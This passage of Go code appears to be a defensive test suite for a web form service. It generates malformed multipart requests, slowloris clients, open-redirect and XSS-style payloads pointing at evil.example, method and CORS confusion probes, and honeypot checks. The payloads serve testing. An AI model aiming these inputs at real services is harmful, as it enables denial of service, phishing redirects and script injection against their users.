	raw(CTForm, []byte("name&&&=&email=a%40v.test&message=MARKER"), true)
	raw("multipart/form-data", []byte("--x\r\nContent-Disposition: form-data; name=\"message\"\r\n\r\nMARKER\r\n--x--\r\n"), true)
	raw("multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=\"message\"\r\n\r\nMARKER"), true)
	raw("multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=\"message\"; filename=\"a.exe\"\r\nContent-Type: application/octet-stream\r\n\r\nMZ MARKER\r\n--x--\r\n"), true)
	raw("multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=\"message\"\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n\r\nMARKER\r\n--y--\r\n--x--\r\n"), true)
	raw("multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nM\r\n--x\r\nContent-Disposition: form-data; name=\"message\"\r\nContent-Transfer-Encoding: base64\r\n\r\nTUFSS0VS\r\n--x--\r\n"), false)
	raw("multipart/form-data; boundary="+strings.Repeat("b", 5000), []byte("--x--"), false)
	// Truncated: Content-Length promises more than is sent.
	for _, n := range []int{1, 100, 60000} {
		n := n
		r := e.NewRequest("malformed", ContactForm)
		r.Client = e.FreshIPv4()
		ip := r.Client
		marker := r.Marker
		b = append(b, &Attempt{Req: r, Raw: func(ctx context.Context, addr string) (int, string) {
			body := "name=M&email=a%40v.test&message=" + marker
			req := fmt.Sprintf("POST /f/%s HTTP/1.1\r\nHost: %s\r\nOrigin: http://%s\r\nX-Forwarded-For: %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s",
				ContactForm, addr, addr, ip, CTForm, len(body)+n, body)
			return rawExchange(ctx, addr, "", req, true, 10*time.Second)
		}})
	}
	e.Shuffle(b)
	return []Batch{b}
}

func genSlow(e *Env) []Batch {
	var b Batch
	// Every slow client is bounded: it gives up after maxHold. The service
	// must cut it off first (read_header_timeout 2s, read_timeout 4s in the
	// generated config).
	const maxHold = 12 * time.Second
	for i := 0; i < 4; i++ {
		r := e.NewRequest("slow-client", ContactForm)
		r.Client = e.FreshPeer()
		peer := r.Client
		b = append(b, &Attempt{Req: r, Raw: func(ctx context.Context, addr string) (int, string) {
			return slowloris(ctx, addr, peer, "header", maxHold)
		}})
	}
	for i := 0; i < 4; i++ {
		r := e.NewRequest("slow-client", ContactForm)
		r.Client = e.FreshPeer()
		peer := r.Client
		b = append(b, &Attempt{Req: r, Raw: func(ctx context.Context, addr string) (int, string) {
			return slowloris(ctx, addr, peer, "body", maxHold)
		}})
	}
	// Legitimate visitors keep being served meanwhile.
	for i := 0; i < 3; i++ {
		b = append(b, e.LegitContact("slow-client", EncForm))
	}
	return []Batch{b}
}

func genRedirect(e *Env) []Batch {
	var b Batch
	for _, next := range []string{"https://evil.example/", "//evil.example/", "/\\evil.example/", "\\\\evil.example",
		"javascript:alert(1)", "http://127.0.0.1:1@evil.example/", e.Cfg.Origin() + "@evil.example/",
		"https:evil.example", "/%2F%2Fevil.example", "data:text/html,<script>alert(1)</script>", " https://evil.example/",
		"/\t/evil.example", "/thanks"} {
		for _, enc := range []Enc{EncForm, EncMultipart} {
			r := e.NewRequest("redirect", ContactForm)
			r.Sender = visitor(r)
			r.Note = fmt.Sprintf("%s _next=%q", enc, next)
			a := e.Post(r, enc, append(contactBase(r), KV{"_next", next})...)
			a.Header = http.Header{"Accept": {"text/html"}}
			a.Check = e.checkRedirect
			b = append(b, a)
		}
	}
	// Shared URLs off the site.
	for _, u := range []string{"https://evil.example/", "//evil.example/", "javascript:alert(1)", "http://example.test.evil.example/",
		e.Cfg.Origin() + "@evil.example/", "data:text/html,x", "https://example.test@evil.example/"} {
		r := e.NewRequest("redirect", ShareForm)
		r.Sender = visitor(r)
		friend := fmt.Sprintf("friend%d@recipient.test", r.ID)
		r.Allowed = []string{friend}
		r.Note = fmt.Sprintf("url=%q", u)
		a := e.Post(r, e.encs()[0], append(shareBase(r, e, "url"), KV{"to", friend}, KV{"url", u})...)
		a.Check = mustRefuse("offsite_url")
		b = append(b, a)
	}
	e.Shuffle(b)
	return []Batch{b}
}

// checkRedirect fails a redirect to anywhere but the site.
func (e *Env) checkRedirect(status int, h http.Header, _ []byte) (string, string) {
	loc := h.Get("Location")
	if status < 300 || status > 399 || loc == "" {
		return "", ""
	}
	u, err := url.Parse(loc)
	if err != nil {
		return "offsite_redirect", fmt.Sprintf("unparsable Location %q", loc)
	}
	if strings.ContainsAny(loc, "\\\t\r\n ") || (u.Scheme == "" && u.Host == "" && strings.HasPrefix(loc, "/") && !strings.HasPrefix(loc, "//")) {
		if strings.ContainsAny(loc, "\\\t\r\n ") {
			return "offsite_redirect", fmt.Sprintf("Location %q has characters browsers read as a host", loc)
		}
		return "", ""
	}
	origin := u.Scheme + "://" + u.Host
	if origin == e.Cfg.Origin() || origin == SiteOrigin2 {
		if u.User != nil {
			return "offsite_redirect", fmt.Sprintf("Location %q carries userinfo", loc)
		}
		return "", ""
	}
	return "offsite_redirect", fmt.Sprintf("%d to %q", status, loc)
}

func genMethod(e *Env) []Batch {
	var b Batch
	legitBody := func(r *Request) []byte { return URLEncoded(contactBase(r)...) }
	for _, m := range []string{"GET", "PUT", "PATCH", "DELETE", "HEAD", "TRACE", "CONNECT", "PROPFIND"} {
		r := e.NewRequest("method-confusion", ContactForm)
		r.Sender = visitor(r)
		r.Note = "method " + m
		a := &Attempt{Req: r, Method: m, ContentType: CTForm, Body: legitBody(r), XFF: e.viaProxy(r)}
		if m == "GET" || m == "HEAD" {
			a.Body = nil
			a.Path = "/f/" + ContactForm + "?" + string(legitBody(r))
		}
		b = append(b, a)
	}
	// Method override headers and parameters.
	for _, h := range []string{"X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method"} {
		r := e.NewRequest("method-confusion", ContactForm)
		r.Sender = visitor(r)
		a := &Attempt{Req: r, Method: "GET", Path: "/f/" + ContactForm + "?" + string(legitBody(r)), XFF: e.viaProxy(r),
			Header: http.Header{h: {"POST"}}}
		b = append(b, a)
	}
	// Content-type confusion.
	for _, c := range []struct {
		ct   string
		body func(r *Request) []byte
	}{
		{"text/plain", legitBody},
		{"text/plain;charset=UTF-8", legitBody},
		{"", legitBody},
		{CTJSON, legitBody},
		{CTForm, func(r *Request) []byte { return JSONObject(contactBase(r)...) }},
		{"application/x-www-form-urlencoded; charset=utf-7", func(r *Request) []byte {
			return []byte("name=+ADw-script+AD4-&email=" + url.QueryEscape(visitor(r)) + "&message=" + r.Marker)
		}},
		{"application/x-www-form-urlencoded; charset=iso-8859-1", func(r *Request) []byte {
			return []byte("name=M\xe9&email=" + url.QueryEscape(visitor(r)) + "&message=" + r.Marker)
		}},
		{"application/xml", func(r *Request) []byte { return []byte("<form><message>" + r.Marker + "</message></form>") }},
		{"application/json; charset=utf-16", func(r *Request) []byte { return JSONObject(contactBase(r)...) }},
		{"application/vnd.api+json", func(r *Request) []byte { return JSONObject(contactBase(r)...) }},
		{"APPLICATION/X-WWW-FORM-URLENCODED", legitBody},
		{"application/x-www-form-urlencoded, application/json", legitBody},
		{"multipart/mixed; boundary=x", func(r *Request) []byte { return []byte("--x\r\n\r\n" + r.Marker + "\r\n--x--\r\n") }},
		{"text/html", legitBody},
	} {
		r := e.NewRequest("method-confusion", ContactForm)
		r.Sender = visitor(r)
		r.Note = fmt.Sprintf("Content-Type %q", c.ct)
		a := &Attempt{Req: r, ContentType: c.ct, Body: c.body(r), XFF: e.viaProxy(r)}
		if c.ct == "" {
			a.Header = http.Header{"Content-Type": {""}}
		}
		b = append(b, a)
	}
	// Cross-site posts: wrong, missing and opaque origins.
	for _, h := range []http.Header{
		{"Origin": {"https://evil.example"}},
		{"Origin": {"null"}},
		{"Origin": {"http://127.0.0.1.evil.example"}},
		{"Origin": {""}, "Referer": {"https://evil.example/page"}},
		{"Origin": {""}, "Referer": {""}},
		{"Origin": {""}, "Referer": {e.Cfg.Origin() + ".evil.example/"}},
		{"Origin": {"https://example.test.evil.example"}},
	} {
		r := e.NewRequest("method-confusion", ContactForm)
		r.Sender = visitor(r)
		r.Note = fmt.Sprintf("headers %v", h)
		a := &Attempt{Req: r, ContentType: CTForm, Body: legitBody(r), XFF: e.viaProxy(r), Header: h}
		a.Check = corsCheck
		b = append(b, a)
	}
	// A CORS preflight from another site must not be granted.
	{
		r := e.NewRequest("method-confusion", ContactForm)
		r.Note = "CORS preflight from https://evil.example"
		r.Client = e.FreshIPv4()
		a := &Attempt{Req: r, Method: "OPTIONS", XFF: []string{r.Client},
			Header: http.Header{"Origin": {"https://evil.example"}, "Access-Control-Request-Method": {"POST"}, "Access-Control-Request-Headers": {"content-type"}}}
		a.Check = corsCheck
		b = append(b, a)
	}
	// Unknown forms and paths.
	for _, p := range []string{"/f/", "/f/unknown", "/f/contact/", "/f/contact/../share", "/f/CONTACT", "/f/contact%00", "/f/contact/challenge"} {
		r := e.NewRequest("method-confusion", ContactForm)
		r.Sender = visitor(r)
		b = append(b, &Attempt{Req: r, Path: p, ContentType: CTForm, Body: legitBody(r), XFF: e.viaProxy(r)})
	}
	e.Shuffle(b)
	return []Batch{b}
}

// corsCheck fails an answer that grants another site's origin.
func corsCheck(_ int, h http.Header, _ []byte) (string, string) {
	if o := h.Get("Access-Control-Allow-Origin"); o == "*" || strings.Contains(o, "evil.example") || o == "null" {
		return "cors", fmt.Sprintf("Access-Control-Allow-Origin: %q granted to another site", o)
	}
	return "", ""
}

func genHoneypot(e *Env) []Batch {
	var b Batch
	// Whitespace-only is not a hit: the guard trims the honeypot, as some
	// browsers' autofill leaves a space; such a post is judged as usual.
	for _, v := range []string{"http://spam.test", "x", " ", "1", "\u00a0x"} {
		hit := strings.TrimSpace(v) != ""
		for _, enc := range e.encs() {
			r := e.NewRequest("honeypot", ContactForm)
			r.Sender = visitor(r)
			r.Honeypot = hit
			a := e.Post(r, enc, append(contactBase(r), KV{"_gotcha", v})...)
			if hit {
				a.Check = honeypotCheck
			}
			b = append(b, a)
		}
		r := e.NewRequest("honeypot", ShareForm)
		r.Sender = visitor(r)
		r.Honeypot = hit
		friend := fmt.Sprintf("friend%d@recipient.test", r.ID)
		if !hit {
			r.Allowed = []string{friend}
		}
		a := e.Post(r, e.encs()[0], append(shareBase(r, e), KV{"to", friend}, KV{"_gotcha", v})...)
		if hit {
			a.Check = honeypotCheck
		}
		b = append(b, a)
	}
	e.Shuffle(b)
	return []Batch{b}
}

// honeypotCheck fails a honeypot hit answered differently from success:
// bots must learn nothing.
func honeypotCheck(status int, _ http.Header, body []byte) (string, string) {
	if status != http.StatusOK || !bytes.Contains(body, []byte(`"ok":true`)) {
		return "honeypot_revealed", fmt.Sprintf("honeypot hit answered %d %.100q, not as success", status, body)
	}
	return "", ""
}

// mustRefuse fails an attempt that was accepted (2xx or a success
// redirect): used where acceptance itself is the breach, whatever mail
// follows.
func mustRefuse(rule string) func(int, http.Header, []byte) (string, string) {
	return func(status int, h http.Header, _ []byte) (string, string) {
		if status/100 == 2 || (status == http.StatusSeeOther && !strings.Contains(h.Get("Location"), "error=")) {
			return rule, fmt.Sprintf("accepted with %d", status)
		}
		return "", ""
	}
}
